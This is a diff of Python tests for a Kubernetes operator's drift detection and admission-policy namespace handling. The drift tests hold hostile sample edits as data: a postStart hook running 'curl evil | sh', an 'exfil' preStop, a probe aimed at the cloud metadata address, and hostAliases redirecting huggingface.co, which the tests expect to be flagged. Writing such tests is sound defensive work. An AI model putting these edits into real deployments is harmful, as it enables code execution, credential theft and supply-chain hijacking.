@@ -85,6 +85,11 @@ def defaulted(pod):
     pod.setdefault("securityContext", {})
     for c in pod["containers"]:
         c.update(terminationMessagePath="/dev/termination-log", imagePullPolicy="IfNotPresent")
+        for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
+            c[probe]["httpGet"]["scheme"] = "HTTP"
+            c[probe].update(timeoutSeconds=1, successThreshold=1)
+        for port in c["ports"]:
+            port.pop("protocol", None)  # absent here, TCP by default: the same
     return pod
 
 
@@ -110,6 +115,21 @@ def test_defaults_are_not_drift(two_pool_example):
      "containers[vllm].env"),
     (lambda p: p.update(serviceAccountName="admin"), "spec.template.spec.serviceAccountName"),
     (lambda p: p.update(initContainers=[{"name": "init", "image": "busybox"}]), "spec.template.spec.initContainers"),
+    (lambda p: p["containers"][0]["ports"][0].update(hostPort=8000), "containers[vllm].ports"),
+    (lambda p: p["containers"][0]["ports"].append({"containerPort": 22, "hostPort": 2222}), "containers[vllm].ports"),
+    (lambda p: p["containers"][0].update(lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
+     "containers[vllm].lifecycle"),
+    (lambda p: p["containers"][0].update(lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "exfil"]}}}),
+     "containers[vllm].lifecycle"),
+    (lambda p: p["containers"][0].update(livenessProbe={"exec": {"command": ["sh", "-c", "x"]}, "periodSeconds": 10}),
+     "containers[vllm].livenessProbe"),
+    (lambda p: p["containers"][0]["readinessProbe"]["httpGet"].update(host="169.254.169.254"),
+     "containers[vllm].readinessProbe"),
+    (lambda p: p["containers"][0]["startupProbe"]["httpGet"].update(path="/other"), "containers[vllm].startupProbe"),
+    (lambda p: p.update(hostAliases=[{"ip": "10.0.0.66", "hostnames": ["huggingface.co"]}]),
+     "spec.template.spec.hostAliases"),
+    (lambda p: p.update(dnsPolicy="Default"), "spec.template.spec.dnsPolicy"),
+    (lambda p: p.update(dnsConfig={"nameservers": ["10.0.0.66"]}), "spec.template.spec.dnsConfig"),
 ])
 def test_security_relevant_edits_are_drift(two_pool_example, edit, field):
     pod = rendered_pod(two_pool_example)
@@ -117,6 +137,16 @@ def test_security_relevant_edits_are_drift(two_pool_example, edit, field):
     edit(live)
     found = drift.pod_spec_drift(pod, live)
     assert len(found) == 1 and found[0].endswith(field), found
+
+
+def test_probe_timings_and_a_rendered_dns_policy_are_not_drift(two_pool_example):
+    """Deliberately left: probe timings; and an explicit dnsPolicy equal to what the apiserver defaults."""
+    pod = rendered_pod(two_pool_example)
+    live = defaulted(pod)
+    live["containers"][0]["livenessProbe"].update(periodSeconds=30, failureThreshold=10)
+    assert drift.pod_spec_drift(pod, live) == []
+    live.pop("dnsPolicy")
+    assert drift.pod_spec_drift(pod, live) == []
 
 
 async def test_hand_edited_child_is_reverted_with_a_warning(two_pool_example):
@@ -389,7 +419,9 @@ async def namespaced_calls(example) -> Calls:
 
 def rules_of(docs, kind, name_suffix="") -> Calls:
     """(apiGroup, resource) -> verbs granted by the Roles/ClusterRoles of ``kind`` whose name ends with
-    ``name_suffix``, leaving out kopf's observation of CRDs and namespaces (values rbac.*: kopf's own reads)."""
+    ``name_suffix``, leaving out kopf's observation of CRDs and namespaces (values rbac.*: kopf's own reads; the
+    admission re-check's ``get namespaces`` with a namespaceSelector is checked by
+    test_the_chart_grants_get_namespaces_only_for_a_namespace_selector)."""
     out: Calls = {}
     for d in docs:
         if d and d["kind"] == kind and d["metadata"]["name"].endswith(name_suffix):
@@ -816,6 +848,81 @@ async def test_reader_gets_exactly_what_the_chart_grants():
                                  ("tokenfactory.dev", "tokenfactoryallowlists")}
     missing = await admission.AdmissionReader("tf-author-rights", client=FakeLightkube({})).state()
     assert missing.allow is None and "not installed" in missing.missing
+
+
+def _installed_with_selector(selector, namespaces):
+    """The policy installed with a binding narrowed by ``selector``; ``namespaces``: name -> labels."""
+    from lightkube.models.admissionregistration_v1 import (
+        MatchResources, ParamRef, ValidatingAdmissionPolicyBindingSpec,
+    )
+    from lightkube.models.meta_v1 import LabelSelector, ObjectMeta
+    from lightkube.resources.admissionregistration_v1 import ValidatingAdmissionPolicyBinding
+    from lightkube.resources.core_v1 import Namespace
+
+    objects = _installed()
+    objects[("admissionregistration.k8s.io", "validatingadmissionpolicybindings", "tf-author-rights")] = (
+        ValidatingAdmissionPolicyBinding(spec=ValidatingAdmissionPolicyBindingSpec(
+            policyName="tf-author-rights", paramRef=ParamRef(name="tf"), validationActions=["Deny"],
+            matchResources=MatchResources(namespaceSelector=LabelSelector.from_dict(selector)))))
+    for name, labels in namespaces.items():
+        objects[("", "namespaces", name)] = Namespace(metadata=ObjectMeta(name=name, labels=labels))
+    return objects
+
+
+def test_label_selectors_as_kubernetes_reads_them():
+    labels = {"kubernetes.io/metadata.name": "llm", "team": "ml"}
+    assert admission.selector_matches(None, labels) and admission.selector_matches({}, labels)
+    assert admission.selector_matches({"matchLabels": {"team": "ml"}}, labels)
+    assert not admission.selector_matches({"matchLabels": {"team": "web"}}, labels)
+    expr = lambda op, *values: {"matchExpressions": [{"key": "team", "operator": op, "values": list(values)}]}  # noqa: E731
+    assert admission.selector_matches(expr("In", "ml", "x"), labels) and not admission.selector_matches(expr("In", "x"), labels)
+    assert admission.selector_matches(expr("NotIn", "x"), labels) and not admission.selector_matches(expr("NotIn", "ml"), labels)
+    assert admission.selector_matches(expr("Exists"), labels) and not admission.selector_matches(expr("DoesNotExist"), labels)
+    assert not admission.selector_matches(expr("In", "ml"), {"kubernetes.io/metadata.name": "other"})
+
+
+async def test_a_namespace_the_binding_leaves_out_is_treated_as_the_policy_missing(two_pool_example):
+    """The binding's namespaceSelector: where it does not select the factory's namespace the policy never
+    checked the author, so the operator refuses unsafe fields there as if the policy were missing (before,
+    it applied the allow-list only and served a Secret reference nobody had checked)."""
+    client = FakeLightkube(_installed_with_selector({"matchLabels": {"tokenfactory.dev/admission": "on"}},
+                                                    {"checked": {"tokenfactory.dev/admission": "on"}, "open": {}}))
+    reader = admission.AdmissionReader("tf-author-rights", client=client)
+    secret = _spec(two_pool_example, env=[{"name": "DB", "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}])
+    checked, other = await reader.state_for("checked"), await reader.state_for("open")
+    assert checked.allow == ALLOW and admission.gate(secret, checked) is None
+    assert other.allow is None and "does not select namespace open" in other.missing
+    reason, problems = admission.gate(secret, other)
+    assert reason == "AdmissionPolicyMissing" and any("secretKeyRef.name: Secret db" in p for p in problems)
+    assert ("", "namespaces") in client.calls
+    # the chart's watchNamespaces form (the name label only) is decided from the name: no Namespace read
+    client = FakeLightkube(_installed_with_selector(
+        {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["team-a"]}]}, {}))
+    reader = admission.AdmissionReader("tf-author-rights", client=client)
+    assert (await reader.state_for("team-a")).allow == ALLOW
+    assert (await reader.state_for("team-b")).allow is None
+    assert ("", "namespaces") not in client.calls
+    # a Namespace that cannot be read counts as not selected
+    client = FakeLightkube(_installed_with_selector({"matchLabels": {"x": "y"}}, {}))
+    st = await admission.AdmissionReader("tf-author-rights", client=client).state_for("gone")
+    assert st.allow is None and "could not be read" in st.missing
+
+
+def test_the_chart_grants_get_namespaces_only_for_a_namespace_selector(helm):  # noqa: F811
+    def namespace_rules(*sets):
+        argv = [helm, "template", "t", str(KUSTOMIZE.parents[2] / "charts" / "tokenfactory")]
+        for s in sets:
+            argv += ["--set-json", s]
+        res = subprocess.run(argv, capture_output=True, text=True)
+        assert res.returncode == 0, res.stderr
+        return [r for d in yaml.safe_load_all(res.stdout) if d and d["kind"] == "ClusterRole"
+                for r in d["rules"] if "namespaces" in r["resources"]]
+
+    assert namespace_rules() == []
+    sel = 'admissionPolicy.namespaceSelector={"matchLabels": {"tokenfactory.dev/admission": "on"}}'
+    assert namespace_rules(sel) == [{"apiGroups": [""], "resources": ["namespaces"], "verbs": ["get"]}]
+    # namespace-scoped with kopf's namespace reads on: those already include get
+    assert [r["verbs"] for r in namespace_rules(sel, 'watchNamespaces=["a"]')] == [["get", "list", "watch"]]
 
 
 def _spec(example, **engine):
